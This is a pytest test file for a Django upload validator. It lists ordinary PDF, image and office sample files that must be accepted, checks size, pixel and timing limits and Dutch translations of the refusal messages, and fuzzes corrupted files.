    "pdf with an https link and a named action": (
        "verslag.pdf",
        lambda: pdf_page(
            b"/Annots [4 0 R 5 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI "
            b"/URI (https://www.vlaanderen.be/onderwijs) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [9 9 19 19] /A << /S /Named /N /NextPage >> >>",
        ),
        "application/pdf",
    ),
    "pdf in an object stream": (
        "verslag.pdf",
        lambda: pdf_object_stream({}, catalog()),
        "application/pdf",
    ),
    "png": ("schema.png", lambda: image_bytes("PNG", (300, 200)), "image/png"),
    "png with text chunk": (
        "schema.png",
        lambda: png_with_chunk(b"tEXt", b"Software\x00Paint.NET"),
        "image/png",
    ),
    "png with transparency": (
        "schema.png",
        lambda: rgba_png(),
        "image/png",
    ),
    "jpeg": ("foto.jpg", lambda: image_bytes("JPEG", (640, 480)), "image/jpeg"),
    "progressive jpeg": ("foto.jpeg", lambda: progressive_jpeg(), "image/jpeg"),
    "minimal docx": ("visie.docx", lambda: ooxml(), uploads.ALLOWED["docx"][0]),
    "docx as word writes it": ("visie.docx", real_docx, uploads.ALLOWED["docx"][0]),
    "docx with a chart": ("visie.docx", docx_with_chart, uploads.ALLOWED["docx"][0]),
    "minimal xlsx": ("lijst.xlsx", lambda: ooxml("xlsx"), uploads.ALLOWED["xlsx"][0]),
    "xlsx with printer settings": (
        "lijst.xlsx",
        xlsx_with_printer_settings,
        uploads.ALLOWED["xlsx"][0],
    ),
    "minimal pptx": ("dia.pptx", lambda: ooxml("pptx"), uploads.ALLOWED["pptx"][0]),
    "odt": (
        "verslag.odt",
        lambda: odf(
            body='<text:p><text:a xlink:href="https://www.klasse.be">Klasse</text:a></text:p>'
            '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>',
            parts={"Pictures/1.png": image_bytes(), "Basic/script-lc.xml": "<library:libraries/>"},
        ),
        uploads.ALLOWED["odt"][0],
    ),  # fmt: skip
    "ods": (
        "lijst.ods",
        lambda: odf(
            "application/vnd.oasis.opendocument.spreadsheet",
            body='<table:table><table:table-row><table:table-cell table:formula="of:=SUM(1;2)"/>'
            "</table:table-row></table:table>",
        ),
        uploads.ALLOWED["ods"][0],
    ),
    "odp": (
        "dia.odp",
        lambda: odf("application/vnd.oasis.opendocument.presentation"),
        uploads.ALLOWED["odp"][0],
    ),
    "doc": ("verslag.doc", doc_file, "application/msword"),
    "xls": (
        "lijst.xls",
        lambda: cfb_bytes({"Workbook": workbook_stream()}),
        "application/vnd.ms-excel",
    ),
    "ppt": (
        "dia.ppt",
        lambda: cfb_bytes({"PowerPoint Document": ppt_stream(), "Current User": b"\x00" * 20}),
        "application/vnd.ms-powerpoint",
    ),
    "text that mentions html": (
        "notities.txt",
        lambda: b"Gebruik <b> voor vet; 3 < 5 en de link https://x.be/?on=1 onderwerp=zorg.\n",
        "text/plain",
    ),
}


def rgba_png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGBA", (32, 32), (0, 0, 0, 0)).save(buffer, "PNG")
    return buffer.getvalue()


def progressive_jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (320, 240), (10, 120, 200)).save(buffer, "JPEG", progressive=True)
    return buffer.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("case", ACCEPTED.keys())
def test_an_ordinary_file_is_accepted(region, media_root, case):
    name, build, content_type = ACCEPTED[case]
    content = build()

    version = share(region, upload(name, content)).versies.get()

    assert version.content_type == content_type
    assert (media_root / version.file.name).read_bytes() == content


@pytest.mark.parametrize("build", [big_docx, big_pdf], ids=["docx", "pdf"])
def test_a_20_mb_file_is_checked_in_reasonable_time(build):
    content = build()
    assert 15 * 1024 * 1024 < len(content) <= 20 * 1024 * 1024
    started = time.monotonic()

    check_upload(upload("groot." + ("docx" if content.startswith(b"PK") else "pdf"), content))

    # Generous: the machine is shared. The check streams; it takes about a second alone.
    assert time.monotonic() - started < 20


def test_the_pixel_limit_can_be_set(settings):
    settings.DOCUMENT_MAX_IMAGE_PIXELS = 100 * 100
    check_upload(upload("klein.png", image_bytes("PNG", (100, 100))))
    with pytest.raises(ValidationError) as refused:
        check_upload(upload("groot.png", image_bytes("PNG", (101, 100))))
    assert refused.value.messages == [uploads._image_too_large(10100, 10000).messages[0]]


REASONS = [
    uploads._pdf_unreadable,
    uploads._pdf_encrypted,
    uploads._pdf_javascript,
    uploads._pdf_auto_action,
    lambda: uploads._pdf_action("Launch"),
    uploads._pdf_embedded,
    uploads._pdf_xfa,
    uploads._pdf_media,
    lambda: uploads._unsafe_link("file"),
    uploads._office_damaged,
    uploads._office_macros,
    uploads._office_active,
    lambda: uploads._office_external("frame"),
    uploads._office_dde,
    uploads._office_markup,
    uploads._office_encrypted,
    uploads._office_unsafe_names,
    lambda: uploads._office_too_many(5000),
    lambda: uploads._office_too_big(100 * 1024 * 1024),
    lambda: uploads._office_ratio(100),
    uploads._office_unusual,
    lambda: uploads._image_damaged("PNG"),
    lambda: uploads._image_too_large(60_000_000, 50_000_000),
    uploads._image_trailing,
]


@pytest.mark.parametrize("refusal", REASONS)
def test_every_reason_is_said_in_dutch(refusal):
    with translation.override("en"):
        english = refusal().messages[0]
    with translation.override("nl-be"):
        dutch = refusal().messages[0]
    assert dutch != english


def test_a_damaged_file_is_refused_or_accepted_but_never_breaks_the_check():
    """Bytes flipped, cut and inserted in files of every kind: only ValidationError comes out.

    Any other exception would be a server error instead of a reason (a fuzzer found a few).
    """
    import random

    chance = random.Random(20261202)
    seeds = [
        (name, build())
        for name, build, _content_type in ACCEPTED.values()
        if name.rpartition(".")[2] != "txt"
    ]
    for _ in range(1500):
        name, original = chance.choice(seeds)
        data = bytearray(original)
        for _ in range(chance.choice([1, 2, 8])):
            if not data:
                break
            position = chance.randrange(len(data))
            roll = chance.random()
            if roll < 0.6:
                data[position] = chance.randrange(256)
            elif roll < 0.8:
                del data[position : position + chance.randrange(1, 64)]
            else:
                data[position:position] = chance.randbytes(chance.randrange(1, 64))
        with contextlib.suppress(ValidationError):
            check_upload(upload(name, bytes(data)))
